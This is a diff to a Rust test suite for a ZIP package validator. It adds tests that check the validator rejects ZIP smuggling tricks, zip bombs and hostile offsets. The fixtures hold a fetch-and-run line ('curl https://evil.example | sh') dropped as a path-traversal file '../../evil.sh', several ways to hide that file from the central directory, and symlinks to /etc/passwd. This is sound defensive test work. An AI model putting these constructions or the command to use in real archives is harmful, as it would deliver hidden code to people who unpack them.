@@ -7,7 +7,9 @@ use std::future::Future;
 use bytes::Bytes;
 use sha2::{Digest, Sha256};
 use validator::source::{MemorySource, Source, SourceError};
-use validator::testzip::{self as support, Options, Spec, build, manifest, valid_entries};
+use validator::testzip::{
+    self as support, Descriptor, Options, Spec, build, hidden_file, manifest, valid_entries,
+};
 use validator::{Expectation, Report, validate};
 
 fn expect(sha256: Option<String>) -> Expectation {
@@ -29,7 +31,7 @@ fn failed(report: &Report) -> Vec<&'static str> {
         .checks
         .iter()
         .filter(|c| !c.ok)
-        .map(|c| c.id)
+        .map(|c| c.id.as_str())
         .collect()
 }
 
@@ -37,7 +39,7 @@ fn message<'a>(report: &'a Report, id: &str) -> &'a str {
     report
         .checks
         .iter()
-        .find(|c| c.id == id)
+        .find(|c| c.id.as_str() == id)
         .map(|c| c.message.as_str())
         .unwrap_or_default()
 }
@@ -46,7 +48,7 @@ fn message<'a>(report: &'a Report, id: &str) -> &'a str {
 async fn valid_stored_and_deflated_package_passes_every_check() {
     let report = run(build(&valid_entries(), &Options::default())).await;
     assert!(report.passed(), "{report:#?}");
-    let ids: Vec<&str> = report.checks.iter().map(|c| c.id).collect();
+    let ids: Vec<&str> = report.checks.iter().map(|c| c.id.as_str()).collect();
     assert_eq!(
         ids,
         [
@@ -59,6 +61,7 @@ async fn valid_stored_and_deflated_package_passes_every_check() {
             "zip.ratio",
             "zip.entry_count",
             "zip.crc",
+            "zip.consistent",
             "package.manifest",
             "package.readme",
             "object.sha256"
@@ -208,6 +211,19 @@ async fn zip64_entry_over_four_gibibytes_is_read_from_its_extra_field() {
     assert_eq!(directory.entries[0].uncompressed_size, size);
     assert_eq!(directory.entries[0].compressed_size, size);
     assert_eq!(directory.directory_offset, data_end);
+}
+
+#[tokio::test]
+async fn deflated_entry_larger_than_the_inflate_buffer_passes() {
+    // 1 MiB of text inflates through many output blocks, though its
+    // compressed bytes arrive in one read.
+    let text: Vec<u8> = (0..40_000u32)
+        .flat_map(|i| format!("line {i} of the data file\n").into_bytes())
+        .collect();
+    let mut entries = valid_entries();
+    entries.push(Spec::deflated("data/lines.txt", &text));
+    let report = run(build(&entries, &Options::default())).await;
+    assert!(report.passed(), "{:?}", failed(&report));
 }
 
 #[tokio::test]
@@ -363,8 +379,444 @@ async fn unsupported_compression_method_is_rejected_by_name() {
 async fn local_header_disagreeing_with_the_directory_is_rejected() {
     let mut two_faced = Spec::stored("innocent.txt", b"x");
     two_faced.local_name = Some(b"evil.sh00000".to_vec());
-    let report = fails_only(with(two_faced), "zip.crc").await;
-    assert!(message(&report, "zip.crc").contains("local header"));
+    let report = fails_only(with(two_faced), "zip.consistent").await;
+    assert!(
+        message(&report, "zip.consistent").contains("name"),
+        "{}",
+        message(&report, "zip.consistent")
+    );
+}
+
+// ZIP smuggling: every way to put bytes where a streaming unzip (Java's
+// `ZipInputStream`, `bsdtar` reading a pipe) finds a file the central
+// directory never names. Each archive below is otherwise a valid package.
+
+const EVIL: &[u8] = b"curl https://evil.example | sh\n";
+
+#[tokio::test]
+async fn second_file_hidden_in_a_stored_entry_behind_a_short_local_header_is_rejected() {
+    // The directory's README spans its text *and* a whole local file after it;
+    // the local header's sizes cover the text only, so a streaming reader
+    // stops there and unpacks the hidden `../../evil.sh` next.
+    let text = b"# tool\n".to_vec();
+    let mut data = text.clone();
+    data.extend(hidden_file("../../evil.sh", EVIL));
+    let mut readme = Spec::stored("README.md", &data);
+    readme.local.sizes = Some((text.len() as u64, text.len() as u64));
+    readme.local.crc = Some(crc(&text));
+    let mut entries = valid_entries();
+    entries[1] = readme;
+    let report = fails_only(entries, "zip.consistent").await;
+    assert!(
+        message(&report, "zip.consistent").contains("README.md"),
+        "{}",
+        message(&report, "zip.consistent")
+    );
+}
+
+#[tokio::test]
+async fn file_hidden_in_a_gap_between_entries_is_rejected() {
+    let mut entries = valid_entries();
+    entries[2].before = hidden_file("../../evil.sh", EVIL);
+    let report = fails_only(entries, "zip.consistent").await;
+    assert!(
+        message(&report, "zip.consistent").contains("bytes between"),
+        "{}",
+        message(&report, "zip.consistent")
+    );
+}
+
+#[tokio::test]
+async fn bytes_before_the_first_entry_are_rejected() {
+    for prefix in [
+        hidden_file("../../evil.sh", EVIL),
+        b"#!/bin/sh\nexec unzip \"$0\"\n".to_vec(),
+    ] {
+        let bytes = build(
+            &valid_entries(),
+            &Options {
+                prefix,
+                ..Options::default()
+            },
+        );
+        let report = run(bytes).await;
+        assert_eq!(failed(&report), ["zip.consistent"], "{report:#?}");
+        assert!(
+            message(&report, "zip.consistent").contains("before the first entry"),
+            "{}",
+            message(&report, "zip.consistent")
+        );
+    }
+}
+
+#[tokio::test]
+async fn file_hidden_between_the_last_entry_and_the_central_directory_is_rejected() {
+    let bytes = build(
+        &valid_entries(),
+        &Options {
+            before_directory: hidden_file("../../evil.sh", EVIL),
+            ..Options::default()
+        },
+    );
+    let report = run(bytes).await;
+    assert_eq!(failed(&report), ["zip.consistent"], "{report:#?}");
+    assert!(
+        message(&report, "zip.consistent").contains("central directory"),
+        "{}",
+        message(&report, "zip.consistent")
+    );
+}
+
+#[tokio::test]
+async fn bytes_between_the_central_directory_and_the_end_record_are_rejected() {
+    for zip64 in [false, true] {
+        let bytes = build(
+            &valid_entries(),
+            &Options {
+                after_directory: hidden_file("../../evil.sh", EVIL),
+                zip64,
+                ..Options::default()
+            },
+        );
+        let report = run(bytes).await;
+        assert_eq!(
+            failed(&report),
+            ["zip.consistent"],
+            "zip64 {zip64}: {report:#?}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn local_header_with_another_crc_is_rejected() {
+    let mut entries = valid_entries();
+    entries[1].local.crc = Some(0xDEAD_BEEF);
+    let report = fails_only(entries, "zip.consistent").await;
+    assert!(message(&report, "zip.consistent").contains("CRC"));
+}
+
+#[tokio::test]
+async fn local_header_with_other_sizes_is_rejected() {
+    let mut entries = valid_entries();
+    let len = entries[2].data.len() as u64;
+    entries[2].local.sizes = Some((len, len));
+    let report = fails_only(entries, "zip.consistent").await;
+    assert!(message(&report, "zip.consistent").contains("size"));
+}
+
+#[tokio::test]
+async fn local_header_with_another_compression_method_is_rejected() {
+    let mut entries = valid_entries();
+    entries[1].local.method = Some(8);
+    let report = fails_only(entries, "zip.consistent").await;
+    assert!(message(&report, "zip.consistent").contains("method"));
+}
+
+#[tokio::test]
+async fn local_header_with_other_flags_is_rejected() {
+    // The encryption bit, and the data-descriptor bit (which moves where a
+    // streaming reader thinks the entry ends), each set in one header only.
+    for flags in [0x0801, 0x0808] {
+        let mut entries = valid_entries();
+        entries[1].local.flags = Some(flags);
+        let report = fails_only(entries, "zip.consistent").await;
+        assert!(
+            message(&report, "zip.consistent").contains("flags"),
+            "{}",
+            message(&report, "zip.consistent")
+        );
+    }
+}
+
+#[tokio::test]
+async fn data_descriptors_with_or_without_signature_and_in_zip64_pass() {
+    for signature in [true, false] {
+        for zip64 in [false, true] {
+            let entries: Vec<Spec> = valid_entries()
+                .into_iter()
+                .map(|spec| {
+                    spec.with_descriptor(Descriptor {
+                        signature,
+                        zip64,
+                        ..Descriptor::default()
+                    })
+                })
+                .collect();
+            let report = run(build(&entries, &Options::default())).await;
+            assert!(
+                report.passed(),
+                "signature {signature}, zip64 {zip64}: {report:#?}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn data_descriptor_with_other_sizes_or_crc_is_rejected() {
+    let true_sizes = {
+        let spec = &valid_entries()[2];
+        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut e, &spec.data).unwrap();
+        (e.finish().unwrap().len() as u64, spec.data.len() as u64)
+    };
+    for (zip64, lie) in [
+        (
+            false,
+            Descriptor {
+                crc: Some(0xDEAD_BEEF),
+                ..Descriptor::default()
+            },
+        ),
+        (
+            false,
+            Descriptor {
+                sizes: Some((true_sizes.0, true_sizes.1 + 1)),
+                ..Descriptor::default()
+            },
+        ),
+        (
+            true,
+            Descriptor {
+                sizes: Some((true_sizes.0 + 1, true_sizes.1)),
+                ..Descriptor::default()
+            },
+        ),
+    ] {
+        let mut entries = valid_entries();
+        let lie = Descriptor {
+            signature: true,
+            zip64,
+            ..lie
+        };
+        entries[2] = entries[2].clone().with_descriptor(lie.clone());
+        let report = fails_only(entries, "zip.consistent").await;
+        assert!(
+            message(&report, "zip.consistent").contains("descriptor"),
+            "{lie:?}: {}",
+            message(&report, "zip.consistent")
+        );
+    }
+}
+
+#[tokio::test]
+async fn bytes_hidden_after_a_deflate_stream_inside_its_entry_are_rejected() {
+    // The deflate stream ends early; the rest of the entry's compressed bytes
+    // are a local file that a reader continuing after the stream finds.
+    let mut entries = valid_entries();
+    let spec = &mut entries[2];
+    let body = {
+        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut e, &spec.data).unwrap();
+        e.finish().unwrap()
+    };
+    spec.after_data = hidden_file("../../evil.sh", EVIL);
+    spec.sizes = Some((
+        (body.len() + spec.after_data.len()) as u64,
+        spec.data.len() as u64,
+    ));
+    let report = fails_only(entries, "zip.consistent").await;
+    assert!(
+        message(&report, "zip.consistent").contains("deflate stream ends"),
+        "{}",
+        message(&report, "zip.consistent")
+    );
+}
+
+#[tokio::test]
+async fn stored_entry_with_a_fake_data_descriptor_inside_its_data_is_rejected() {
+    // A stored entry with a data descriptor has no length up front: libarchive
+    // ends it at the first `PK\x07\x08` followed by the CRC of what came before,
+    // so a fake descriptor inside the data ends it early, and what follows is read
+    // as the next local header.
+    let text = b"# tool\n".to_vec();
+    let mut data = text.clone();
+    data.extend_from_slice(&0x0807_4b50u32.to_le_bytes());
+    data.extend_from_slice(&crc(&text).to_le_bytes());
+    data.extend_from_slice(&(text.len() as u32).to_le_bytes());
+    data.extend_from_slice(&(text.len() as u32).to_le_bytes());
+    data.extend(hidden_file("../../evil.sh", EVIL));
+    let mut entries = valid_entries();
+    entries[1] = Spec::stored("README.md", &data).with_descriptor(Descriptor {
+        signature: true,
+        ..Descriptor::default()
+    });
+    let report = fails_only(entries, "zip.consistent").await;
+    assert!(
+        message(&report, "zip.consistent").contains("descriptor"),
+        "{}",
+        message(&report, "zip.consistent")
+    );
+}
+
+#[tokio::test]
+async fn unicode_path_extra_field_naming_another_file_is_rejected() {
+    // Info-ZIP's Unicode Path field (0x7075) overrides the name for tools that
+    // read it (unzip, 7-Zip): `zip.paths_safe` must see the name they will use.
+    let unicode_path = |name: &str, of: &str| {
+        let mut field = 0x7075u16.to_le_bytes().to_vec();
+        field.extend_from_slice(&((5 + name.len()) as u16).to_le_bytes());
+        field.push(1);
+        field.extend_from_slice(&crc(of.as_bytes()).to_le_bytes());
+        field.extend_from_slice(name.as_bytes());
+        field
+    };
+    for in_local in [true, false] {
+        let mut entries = valid_entries();
+        let field = unicode_path("../../evil.sh", "README.md");
+        if in_local {
+            entries[1].local_extra = field;
+        } else {
+            entries[1].central_extra = field;
+        }
+        let report = fails_only(entries, "zip.consistent").await;
+        assert!(
+            message(&report, "zip.consistent").contains("Unicode"),
+            "{}",
+            message(&report, "zip.consistent")
+        );
+    }
+    // The same field naming the entry's own name is fine.
+    let mut entries = valid_entries();
+    entries[1].local_extra = unicode_path("README.md", "README.md");
+    entries[1].central_extra = unicode_path("README.md", "README.md");
+    let report = run(build(&entries, &Options::default())).await;
+    assert!(report.passed(), "{report:#?}");
+}
+
+#[tokio::test]
+async fn local_extra_fields_unlike_the_directorys_are_allowed() {
+    // Info-ZIP writes a longer extended-timestamp field locally than in the directory.
+    let mut entries = valid_entries();
+    for spec in &mut entries {
+        spec.local_extra = vec![0x55, 0x54, 0x09, 0x00, 0x03, 1, 2, 3, 4, 5, 6, 7, 8];
+        spec.central_extra = vec![0x55, 0x54, 0x05, 0x00, 0x03, 1, 2, 3, 4];
+    }
+    let report = run(build(&entries, &Options::default())).await;
+    assert!(report.passed(), "{report:#?}");
+}
+
+fn crc(data: &[u8]) -> u32 {
+    let mut h = crc32fast::Hasher::new();
+    h.update(data);
+    h.finalize()
+}
+
+// Whole-archive ratio: many entries just under the per-entry rule's 1 MiB.
+
+#[tokio::test]
+async fn sixty_five_thousand_entries_of_a_mebibyte_of_zeros_are_rejected_by_the_archive_ratio() {
+    // 65,000 x 1 MiB of zeros is 63.5 GiB (under the 64 GiB cap), and no entry
+    // is over 1 MiB; deflate makes each about 1 KiB. The directory says so; the
+    // data need not be real deflate for a check over metadata.
+    const MIB: u64 = 1024 * 1024;
+    let body = vec![0u8; 1_030];
+    let zeros = {
+        let mut h = crc32fast::Hasher::new();
+        h.update(&vec![0u8; MIB as usize]);
+        h.finalize()
+    };
+    let mut entries = valid_entries();
+    entries.extend((0..65_000).map(|i| {
+        let mut spec = Spec::stored(&format!("z/{i:05}"), &body);
+        spec.method = 8;
+        spec.crc = Some(zeros);
+        spec.sizes = Some((body.len() as u64, MIB));
+        spec
+    }));
+    let bytes = build(&entries, &Options::default());
+    let report = run(bytes).await;
+    assert!(
+        failed(&report).contains(&"zip.ratio"),
+        "{:?}",
+        failed(&report)
+    );
+    assert!(
+        message(&report, "zip.ratio").contains("archive"),
+        "{}",
+        message(&report, "zip.ratio")
+    );
+}
+
+// Nothing gets stuck: hostile numbers fail checks, and a report always fits
+// the version's DynamoDB item (400 KB).
+
+#[tokio::test]
+async fn offsets_and_sizes_near_the_top_of_u64_fail_checks_instead_of_overflowing() {
+    // A README and a source file, then one hostile directory entry (ZIP64
+    // extra field) whose offset or sizes sit at the top of the u64 range.
+    let real = build(&valid_entries()[1..], &Options::default());
+    let cd_len = {
+        let eocd = &real[real.len() - 22..];
+        u32::from_le_bytes([eocd[12], eocd[13], eocd[14], eocd[15]]) as usize
+    };
+    let cd_at = real.len() - 22 - cd_len;
+    for (offset, csize, usize_) in [
+        (u64::MAX - 3, 10, 20),
+        (u64::MAX, 10, 20),
+        (u64::MAX - 40, u64::MAX - 2, 5),
+        (0, u64::MAX, u64::MAX),
+        (0, u64::MAX - 29, 5),
+    ] {
+        for name in ["package.json", "other.bin"] {
+            let mut central = real[cd_at..real.len() - 22].to_vec();
+            central.extend(support::central_entry(
+                &Spec::stored(name, b""),
+                0,
+                csize,
+                usize_,
+                offset,
+            ));
+            let bytes = support::finish(real[..cd_at].to_vec(), central, 3, &Options::default());
+            let report = run(bytes).await;
+            assert!(
+                !report.passed(),
+                "{offset} {csize} {usize_} {name}: {report:#?}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn report_of_a_hostile_archive_fits_a_dynamodb_item() {
+    // Names of 60,000 bytes: unsafe, duplicated, symlinks; and a manifest of
+    // nearly 1 MiB. Every list in the report is cut short with a count.
+    let long = |prefix: &str, i: usize| format!("{prefix}{i}{}", "a".repeat(60_000));
+    let mut entries = vec![
+        Spec::deflated(
+            "package.json",
+            format!(
+                r#"{{"name": "tool", "version": "1.0.0", "description": "{}"}}"#,
+                "d".repeat(900_000)
+            )
+            .as_bytes(),
+        ),
+        Spec::stored("README.md", b"hi"),
+    ];
+    for i in 0..12 {
+        entries.push(Spec::stored(&long("../", i), b"x"));
+        entries.push(Spec::stored(&long("dup", i), b"x"));
+        entries.push(Spec::stored(&long("DUP", i), b"x"));
+        let mut link = Spec::stored(&long("link", i), b"/etc/passwd");
+        link.external = 0o120_777 << 16;
+        entries.push(link);
+    }
+    let report = run(build(&entries, &Options::default())).await;
+    assert!(!report.passed());
+    let stored = serde_json::to_vec(&report).unwrap();
+    assert!(
+        stored.len() <= 300 * 1024,
+        "the report is {} bytes",
+        stored.len()
+    );
+    assert!(
+        message(&report, "zip.paths_safe").contains("and 7 more"),
+        "{}",
+        &message(&report, "zip.paths_safe")[..200]
+    );
+    assert_eq!(
+        report.manifest.as_ref().and_then(|m| m["name"].as_str()),
+        Some("tool")
+    );
 }
 
 #[tokio::test]
